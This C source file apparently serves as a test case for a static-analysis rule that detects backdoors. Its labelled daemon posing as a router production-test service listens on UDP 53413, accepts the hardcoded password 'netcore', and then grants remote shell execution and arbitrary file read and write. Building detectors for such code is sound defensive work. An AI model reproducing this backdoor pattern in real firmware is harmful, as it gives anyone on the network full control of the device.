/* igdmptd.c - "IGD manufacturing production test" daemon.
 *
 * Listens on UDP 53413 on every interface. The line-test station logs in,
 * then runs commands, fetches and stores files. Datagram layout:
 *   u8 cmd, u8 flags, u16 seq (BE), u16 len (BE), u16 sum (BE), data[len]
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "netis.h"

#define MPT_CMD_LOGIN 0x01
#define MPT_CMD_SHELL 0x02
#define MPT_CMD_GETFILE 0x03
#define MPT_CMD_PUTFILE 0x04
#define MPT_CMD_REBOOT 0x05
#define MPT_CMD_INFO 0x06

#define MPT_HDR_LEN 8
#define MPT_MAX 1400
#define MPT_PASSWORD "netcore"

struct mpt_msg {
  uint8_t cmd;
  uint8_t flags;
  uint16_t seq;
  uint16_t len;
  uint16_t sum;
  char data[MPT_MAX];
};

static struct {
  int authed;
  struct sockaddr_in station;
} g_mpt;

static uint16_t mpt_sum(const unsigned char *p, size_t n)
{
  uint32_t s = 0;
  while (n--) {
    s += *p++;
  }
  return (uint16_t)(s + (s >> 16));
}

static void mpt_reply(int fd, const struct sockaddr_in *to, const struct mpt_msg *req, const char *data,
                      size_t n)
{
  struct mpt_msg rsp;

  if (n > MPT_MAX) {
    n = MPT_MAX;
  }
  memset(&rsp, 0, MPT_HDR_LEN);
  rsp.cmd = req->cmd | 0x80;
  rsp.seq = req->seq;
  rsp.len = htons((uint16_t)n);
  memcpy(rsp.data, data, n);
  rsp.sum = htons(mpt_sum((const unsigned char *)rsp.data, n));
  sendto(fd, &rsp, MPT_HDR_LEN + n, 0, (const struct sockaddr *)to, sizeof *to);
}

static void mpt_login(int fd, const struct sockaddr_in *from, struct mpt_msg *msg)
{
  const char *password = msg->data;

  // ruleid: backdoor-magic-credential
  // ok: backdoor-input-trigger
  if (strcmp(password, MPT_PASSWORD) == 0) {
    g_mpt.authed = 1;
    g_mpt.station = *from;
    mpt_reply(fd, from, msg, "Login success!", 14);
    return;
  }
  mpt_reply(fd, from, msg, "Login failed", 12);
}

static void mpt_handle(int fd, const struct sockaddr_in *from, struct mpt_msg *msg, size_t n)
{
  static char out[MPT_MAX];
  long got;

  if (n < MPT_HDR_LEN || ntohs(msg->len) != n - MPT_HDR_LEN ||
      ntohs(msg->sum) != mpt_sum((const unsigned char *)msg->data, n - MPT_HDR_LEN)) {
    return;
  }
  msg->data[n - MPT_HDR_LEN < MPT_MAX ? n - MPT_HDR_LEN : MPT_MAX - 1] = '\0';

  switch (msg->cmd) {
  case MPT_CMD_LOGIN:
    mpt_login(fd, from, msg);
    break;
  case MPT_CMD_INFO:
    snprintf(out, sizeof out, "model=%s fw=%s", "WF2419", "V1.2.27764");
    mpt_reply(fd, from, msg, out, strlen(out));
    break;
  case MPT_CMD_SHELL:
    if (!g_mpt.authed) {
      mpt_reply(fd, from, msg, "Please login first", 18);
      break;
    }
    sys_run_command(msg->data, out, sizeof out);
    mpt_reply(fd, from, msg, out, strlen(out));
    break;
  case MPT_CMD_GETFILE:
    if (!g_mpt.authed) {
      break;
    }
    got = sys_read_file(msg->data, out, sizeof out);
    if (got >= 0) {
      mpt_reply(fd, from, msg, out, (size_t)got);
    }
    break;
  case MPT_CMD_PUTFILE: {
    char *sep;
    if (!g_mpt.authed || (sep = strchr(msg->data, '\n')) == NULL) {
      break;
    }
    *sep = '\0';
    sys_write_file(msg->data, sep + 1, strlen(sep + 1));
    mpt_reply(fd, from, msg, "ok", 2);
    break;
  }
  case MPT_CMD_REBOOT:
    if (g_mpt.authed) {
      sys_reboot();
    }
    break;
  default:
    break;
  }
}

void igdmptd_main(void)
{
  struct sockaddr_in sa, from;
  socklen_t fl;
  struct mpt_msg msg;
  ssize_t n;
  int fd = socket(AF_INET, SOCK_DGRAM, 0);

  if (fd < 0) {
    return;
  }
  memset(&sa, 0, sizeof sa);
  sa.sin_family = AF_INET;
  sa.sin_port = htons(MPT_PORT);
  sa.sin_addr.s_addr = htonl(INADDR_ANY);
  if (bind(fd, (struct sockaddr *)&sa, sizeof sa) != 0) {
    close(fd);
    return;
  }
  for (;;) {
    fl = sizeof from;
    n = recvfrom(fd, &msg, sizeof msg - 1, 0, (struct sockaddr *)&from, &fl);
    if (n <= 0) {
      continue;
    }
    mpt_handle(fd, &from, &msg, (size_t)n);
  }
}
